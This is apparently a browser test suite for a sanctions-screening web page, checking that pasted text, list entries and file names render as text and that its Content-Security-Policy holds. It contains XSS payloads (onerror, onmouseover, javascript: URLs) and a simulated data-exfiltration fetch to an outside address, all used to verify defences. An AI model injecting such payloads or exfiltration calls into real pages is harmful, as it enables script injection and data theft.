// Markup in pasted text, list entries and file names stays text; the Content-Security-Policy is in force and keeps
// the page from running inline script or connecting anywhere but its own origin.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { fixtures, newSession, openPage, screenText, startBrowser } from './harness.mjs';

const PAYLOAD = '<img src=x onerror=alert(1)><script>alert(2)</script>';

let env;
before(async () => { env = await startBrowser(); });
after(async () => { await env?.stop(); });

async function session(t) {
  const s = await newSession(env);
  t.after(() => s.close());
  await openPage(s);
  // A flag the payloads would set if any of them ran.
  await s.page.evaluate(() => { window.__pwned = 0; });
  return s;
}

/** Elements the payloads would create if they were parsed as markup anywhere in the page. */
const injected = (page) => page.$$eval('img[src="x"], #result script, #lists script, #list-error *, b[onmouseover], [onerror], [onclick], a[href^="javascript:"]', (e) => e.length);

test('a party name made of HTML and script is rendered as text: no element, no dialog', async (t) => {
  const s = await session(t);
  const { page } = s;
  await screenText(page, `Buyer: ${PAYLOAD}\nConsignee: Example Trading Co, Karachi, Pakistan\nItems: 2 pumps\n`);
  assert.equal(await injected(page), 0, 'no element came from the pasted text');
  const shown = await page.locator('.party-name').allTextContents();
  assert.ok(shown.some((n) => n.includes(PAYLOAD)), `the markup is shown as text: ${JSON.stringify(shown)}`);
  assert.ok((await page.locator('.order-pre').textContent()).includes(PAYLOAD), 'and in the order text');
  assert.equal(await page.evaluate(() => window.__pwned), 0);
  s.assertClean(); // a dialog (alert) would be recorded as a problem
});

test('markup in a list entry and in a file name stays text, and a javascript: source link is not a link', async (t) => {
  const s = await session(t);
  const { page } = s;
  const csv = fs.readFileSync(path.join(fixtures, 'example_csl.csv'), 'utf8').split('\n');
  // Row 1 (Entity List): name carries the payload, the licence policy markup, the source URL a javascript: URL.
  const cells = csv[1].split(',');
  cells[5] = `"${PAYLOAD} Evil Imports"`;
  csv[1] = cells.join(',').replace('Presumption of denial.', '<b onmouseover=alert(3)>x</b>').replace(/,,,,,,,,,Example Rotor/, ',,,,,,,,javascript:alert(4),Example Rotor');
  await page.setInputFiles('#list-file', { name: '<img src=x onerror=alert(5)>.csv', mimeType: 'text/csv', buffer: Buffer.from(csv.join('\n')) });
  await page.waitForSelector('#demo-aside');
  assert.ok((await page.locator('#lists').textContent()).includes('<img src=x onerror=alert(5)>.csv'), 'file name shown as text');
  await page.fill('#party-name', `${PAYLOAD} Evil Imports`);
  await page.click('#party-btn');
  await page.waitForSelector('.hit-name');
  assert.ok((await page.locator('.hit-name').allTextContents()).includes(`${PAYLOAD} Evil Imports`));
  const hitText = await page.locator('.hit').first().innerText();
  assert.match(hitText, /<b onmouseover=alert\(3\)>x<\/b>/);
  assert.match(hitText, /Source\s+javascript:alert\(4\)/, 'the javascript: URL is shown as text');
  assert.equal(await injected(page), 0, 'no element came from the list file');
  // A junk file whose name is markup: the error message shows it as text.
  await page.setInputFiles('#list-file', { name: '<b onclick=alert(6)>bad</b>.bin', mimeType: 'application/octet-stream', buffer: Buffer.from([0, 0, 0, 1]) });
  await page.waitForSelector('#list-error:not([hidden])');
  assert.match(await page.textContent('#list-error'), /<b onclick=alert\(6\)>bad<\/b>\.bin/);
  assert.equal(await injected(page), 0);
  assert.equal(await page.evaluate(() => window.__pwned), 0);
  s.assertClean();
});

test('the CSP meta tag is in force: inline script and connections to other origins are blocked', async (t) => {
  const s = await session(t);
  const { page } = s;
  const csp = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
  const directives = Object.fromEntries(csp.split(';').map((d) => d.trim().split(/\s+/)).map(([k, ...v]) => [k, v.join(' ')]));
  assert.deepEqual(
    { d: directives['default-src'], s: directives['script-src'], c: directives['connect-src'], i: directives['img-src'], st: directives['style-src'], o: directives['object-src'], b: directives['base-uri'], f: directives['form-action'] },
    { d: "'self'", s: "'self' 'wasm-unsafe-eval'", c: "'self'", i: "'self' data:", st: "'self'", o: "'none'", b: "'none'", f: "'none'" });
  assert.equal(await page.locator('script:not([src])').count(), 0, 'the page itself has no inline script');
  assert.equal(await page.locator('[style]').count(), 0, 'and no inline style attribute');

  const result = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
    window.__inline = false;
    const script = document.createElement('script');
    script.textContent = 'window.__inline = true';
    document.body.append(script);
    let fetched = 'not blocked';
    try { await fetch('http://203.0.113.7/collect', { method: 'POST', body: 'order' }); } catch (e) { fetched = e.name; }
    const probe = await import('/tests/browser/fixtures/csp_probe.mjs');
    const evaluated = probe.tryEval();
    const constructed = probe.tryFunction();
    await new Promise((r) => setTimeout(r, 100)); // violation events are queued as tasks
    return { inline: window.__inline, fetched, evaluated, constructed, violations };
  });
  assert.equal(result.inline, false, 'inline script did not run');
  assert.equal(result.fetched, 'TypeError', 'the cross-origin fetch failed');
  assert.equal(result.evaluated, 'EvalError', 'eval is refused');
  assert.equal(result.constructed, 'EvalError', 'new Function is refused');
  assert.ok(result.violations.includes('script-src-elem'), `violations: ${result.violations}`);
  assert.ok(result.violations.includes('connect-src'), `violations: ${result.violations}`);
  assert.ok(result.violations.includes('script-src'), `violations: ${result.violations}`);
  // The blocked attempts are reported on the console; nothing else may be.
  assert.ok(s.expect(/Content Security Policy/) >= 3);
  s.assertClean(); // and the fetch never became a request
});

test('the official-list links in the banner are plain links: the page itself requests nothing from them', async (t) => {
  const s = await session(t);
  const { page } = s;
  const links = await page.$$eval('.demo-note a[href^="http"]', (as) => as.map((a) => ({ host: new URL(a.href).hostname, rel: a.rel, target: a.target })));
  assert.equal(links.length, 6, 'CSL, OFAC, BIS DPL, UN, UK, EU');
  for (const l of links) {
    assert.equal(l.rel, 'noreferrer noopener');
    assert.equal(l.target, '_blank');
  }
  await page.hover('.demo-note a[href^="http"]'); // no prefetch on hover either
  await page.waitForTimeout(200);
  assert.ok(s.requests.every((u) => new URL(u).hostname === '127.0.0.1'), `requests: ${s.requests}`);
  s.assertClean();
});
